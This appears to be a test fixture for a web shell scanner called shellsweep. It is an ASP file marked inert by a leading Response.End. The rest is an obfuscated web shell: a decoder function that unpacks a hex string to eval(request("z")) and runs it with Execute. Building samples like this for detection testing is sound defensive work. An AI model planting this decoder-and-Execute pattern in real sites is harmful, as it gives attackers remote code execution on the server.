<% ' shellsweep test sample: inert, never functional
Response.End %>
<%
Function cd(ByVal s, ByVal key)
  For i = 1 To Len(s) Step 2
    c = Mid(s, i, 2) : p = Mid(key, (i + 1) / 2 Mod Len(key) + 1, 1)
    cd = cd & Chr(("&H" & c) - p)
  Next
End Function
Execute cd("6877656D2B736972786677752B237E232C2A", "1314")
%>
